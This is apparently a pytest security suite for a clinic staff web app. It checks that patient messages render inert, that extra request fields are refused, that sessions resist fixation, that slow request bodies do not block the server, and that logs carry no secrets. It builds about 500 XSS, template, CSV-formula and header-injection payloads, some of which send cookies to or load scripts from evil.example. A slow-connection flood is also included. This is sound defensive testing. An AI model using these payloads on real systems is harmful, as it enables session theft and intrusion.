"""Patients' words are hostile input: whatever is typed is shown as it was typed, runs nothing, and stands in no log."""

import asyncio
import json
import logging
from html.parser import HTMLParser

import pytest
from aiohttp.test_utils import TestClient, TestServer

from care import messages, staff
from care.messages import Written
from ops import logs
from staff_api.app import build
from staff_api.console.app import add_console

RUNS = ("alert(1)", "fetch('//evil.example/'+document.cookie)", "top[8680439..toString(30)](1)", "import('//evil.example')")
# ruff: noqa: E501
VECTORS = (
    "<script>{}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>{}", "<img src=x onerror={}>", "<svg/onload={}>",
    "<svg><script>{}</script></svg>", "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>", "<a href='data:text/html,<script>{}</script>'>x</a>", "<body onload={}>", "<math><mi//xlink:href=javascript:{}>",
    "\"><script>{}</script>", "'><script>{}</script>", "</textarea><script>{}</script>", "</title><script>{}</script>",
    "</script><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "\" autofocus onfocus={} x=\"",
    "' style=animation-name:x onanimationstart={} '", "<details open ontoggle={}>", "<form action=javascript:{}><input type=submit>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href=//evil.example/>{}", "<link rel=stylesheet href=//evil.example>{}",
    "<style>@import '//evil.example';</style>{}", "<object data=javascript:{}>", "<embed src=javascript:{}>", "<template><script>{}</script></template>",
    "<div hx-get=/sign-out hx-trigger=load>{}</div>", "<div hx-on:load={}>", "<button data-hx-post=/links/1/cut hx-trigger=load>{}</button>",
    "{{{{ {} }}}}", "{{% {} %}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "=cmd|'/c {}'!A0", "=HYPERLINK(\"//evil.example\",\"{}\")", "+{}", "-{}", "@SUM({})",
    "\t={}", "\r={}", "[x](javascript:{})", "![x](//evil.example/{})", "<javascript:{}>", "```\n{}\n```", "*{}", "_{}_", "`{}",
    "x\r\nSet-Cookie: careward={}", "x\r\n\r\n<script>{}</script>", "x%0d%0aLocation:%20//evil.example/{}", "HX-Redirect: javascript:{}",
    "\u202e<script>{}</script>", "\ufeff<script>{}</script>", "＜script＞{}＜/script＞", "<scr\u0000ipt>{}</scr\u0000ipt>".replace("\0", "\u200b"),
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "<xss id=x tabindex=1 onfocus={}>",
    "<input onfocus={} autofocus>", "<video><source onerror={}>", "<audio src=x onerror={}>", "<select onchange={}><option>1", "<marquee onstart={}>",
    "<table background=javascript:{}>", "<isindex action=javascript:{} type=image>", "<keygen autofocus onfocus={}>", "<p style=\"background:url(javascript:{})\">",
)  # fmt: skip
PAYLOADS = [vector.format(run) + suffix for suffix in ("", " and my knee hurts") for vector in VECTORS for run in RUNS][:500]


class Page(HTMLParser):
    """A page's elements with the names of their attributes, where it leads, and all its words."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: set[tuple[str, tuple[str, ...]]] = set()
        self.leads_to: set[str] = set()
        self.words: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.add((tag, tuple(sorted(name for name, _ in attrs))))
        self.leads_to |= {value or "" for name, value in attrs if name in ("href", "src", "action", "formaction", "srcdoc")}

    def handle_data(self, data):
        self.words.append(data)


@pytest.fixture
def url(sqlite_url: str) -> str:
    return sqlite_url


@pytest.fixture
async def browser(clinic, nurse):
    app = build(clinic)
    add_console(app)
    async with TestClient(TestServer(app)) as client:
        opened = await clinic.run(f"staff:{nurse.id}", staff.sign_in, nurse.id)
        client.session.headers["Cookie"] = f"careward={opened.token}"
        yield client


OURS = {("time", ("datetime", "title")), ("q", ("dir",)), ("a", ("href", "hx-get", "hx-push-url", "hx-swap", "hx-target"))}
"""What a page of ours has only where there is much to show."""


async def look_at(browser, path: str) -> tuple[Page, object]:
    async with browser.get(path) as answer:
        page = Page()
        page.feed(await answer.text())
        return page, answer.headers


def type_all(turn, patient, payloads):
    for number, payload in enumerate(payloads):
        messages.hear(turn, patient, Written(5000 + number, "text", payload))


async def test_five_hundred_payloads_typed_by_patients_run_nothing(clinic, browser, signed_in, add_patient):
    assert len(set(PAYLOADS)) == 500
    amina = await add_patient()
    await clinic.run("chat:7", type_all, amina, ["My knee hurts"])
    shape = {}
    for path in ("/", "/e/1", f"/patients/{amina.id}?entries=960", f"/patients/{amina.id}/medicines"):
        shape[path], _ = await look_at(browser, path)
    await clinic.run("chat:7", type_all, amina, PAYLOADS)
    for path, before in shape.items():
        page, headers = await look_at(browser, path)
        assert page.elements <= before.elements | OURS, page.elements - before.elements
        assert not [one for one in page.leads_to if one.strip().lower().startswith(("javascript:", "data:", "//"))]
        assert "script-src 'self'" in headers["Content-Security-Policy"]
        assert "evil.example" not in str(headers)
    page, _ = await look_at(browser, f"/patients/{amina.id}?entries=960")
    words = "".join(page.words)
    shown = [payload for payload in PAYLOADS if payload.strip().replace("\r\n", "\n").replace("\r", "\n") in words]
    assert len(shown) >= 450, "they are shown, as they were typed (what is longer ago than the page is behind it)"

    following, told = f"/patients/{amina.id}/thread?limit=500", set()
    while following:
        answer = await signed_in.get(following)
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        told |= {entry["text"] for entry in answer.json["items"]}
        following = answer.json["next"]
    assert {payload.strip() for payload in PAYLOADS} <= {text.strip() for text in told}


async def test_a_payload_in_a_name_is_a_name(clinic, browser, signed_in):
    for payload in PAYLOADS[::25]:
        name = payload.replace("\0", "")[:190]
        added = await signed_in.post("/patients", {"name": name, "date_of_birth": "1960-01-01", "language": "en"})
        assert added.status == 201, added.text
    page, _ = await look_at(browser, "/patients")
    assert not [one for one in page.elements if any(name.startswith("on") for name in one[1])]
    assert not [one for one in page.elements if one[0] in ("iframe", "object", "embed", "base", "math", "form") and not one[1]]


EXTRA = [
    ("POST", "/patients", {"name": "A", "date_of_birth": "1960-01-01", "language": "en"}, {"id": 9, "state": "active", "consented": True}),
    ("POST", "/staff/invitations", {"email": "x@clinic.example", "role": "nurse"}, {"active": True, "staff_id": 1}),
    ("PUT", "/staff/1/role", {"role": "nurse", "reach": "clinic"}, {"email": "x@clinic.example", "password_hash": "x"}),
    ("POST", "/session", {"email": "x@clinic.example", "password": "x"}, {"role": "administrator"}),
    ("POST", "/keys", {"name": "x", "scopes": ["worklist:read"]}, {"created_by": "ops"}),
]  # fmt: skip


@pytest.mark.parametrize(("method", "path", "body", "extra"), EXTRA, ids=lambda one: one if isinstance(one, str) else "")
async def test_a_field_that_is_not_asked_for_is_refused(signed_in, method, path, body, extra):
    for name, value in extra.items():
        answer = await signed_in.call(method, path, json=body | {name: value})
        assert (answer.status, answer.json["errors"][0]["pointer"]) == (422, f"/{name}")


async def test_a_session_that_somebody_else_has_chosen_is_not_taken_on(stranger, nurse):
    from tests.staff_api.test_sessions import DANA

    victim = stranger.as_(Cookie="careward=chosen-by-the-attacker")
    answer = await victim.post("/session", DANA)
    assert answer.status == 200
    assert "chosen-by-the-attacker" not in answer.headers["Set-Cookie"]
    stranger.client.session.cookie_jar.clear()
    assert (await victim.get("/session")).status == 401


async def test_a_body_that_never_ends_keeps_nobody_waiting(signed_in):
    host, port = signed_in.client.host, signed_in.client.port
    slow = [await asyncio.open_connection(host, port) for _ in range(20)]
    head = "".join(f"{name}: {value}\r\n" for name, value in signed_in.headers.items())
    for _, writer in slow:
        writer.write(f"POST /api/v1/patients HTTP/1.1\r\nHost: x\r\n{head}Content-Type: application/json\r\n"
                     "Content-Length: 60000\r\n\r\n{".encode())
        await writer.drain()
    assert (await signed_in.get("/worklist")).status == 200
    for _, writer in slow:
        writer.close()
    assert (await signed_in.post("/patients", {"name": "x" * 70_000})).status == 413


async def test_no_secret_and_no_word_of_a_patient_stands_in_any_log(quick_ward, caplog, monkeypatch):
    """A day of everything that carries one, with every logger at its most talkative."""
    caplog.set_level(logging.DEBUG)
    for name in logs.QUIET:  # these quote what they handle, so the product never lets them talk
        logging.getLogger(name).setLevel(logging.WARNING)
    amina = await quick_ward.enrolled("Canaria Wordsworth")
    await amina.says("canary-symptom hurts behind the canary-knee")
    await amina.says("/check")
    app = build(quick_ward.clinic)
    add_console(app)
    async with TestClient(TestServer(app)) as browser:
        nurse = await quick_ward.clinic.run("ops", staff.add, "canary@riverside.example", "Dana", "hash")
        opened = await quick_ward.clinic.run("ops", staff.sign_in, nurse.id)
        _, secret = await quick_ward.clinic.run(f"staff:{nurse.id}", staff.new_key, "x", ("patients:read",), None)
        sent = {"Cookie": f"careward={opened.token}", "X-CSRF-Token": opened.session.csrf}
        same = {"Sec-Fetch-Site": "same-origin"}
        await browser.post("/api/v1/session", json={"email": "canary@x.example", "password": "canary-password-1"}, headers=same)
        await browser.post("/api/v1/patients/1/notes", json={"text": "canary-note"}, headers=sent)
        await browser.post("/api/v1/patients", data=b'{"name": "canary-broken', headers=sent)
        await browser.get("/api/v1/patients/1/thread", headers={"Authorization": f"Bearer {secret}"})
        await browser.get("/api/v1/patients?name=canary-search", headers=sent)
        await browser.get("/patients/1", headers=sent)
    from tests.ward import TOKEN

    said = caplog.text + json.dumps([str(record.__dict__) for record in caplog.records])
    assert caplog.records, "somebody said something"
    for secret_word in ("canary-", "Canaria", TOKEN, TOKEN.partition(":")[2], opened.token, opened.session.csrf, secret):
        assert secret_word not in said, secret_word
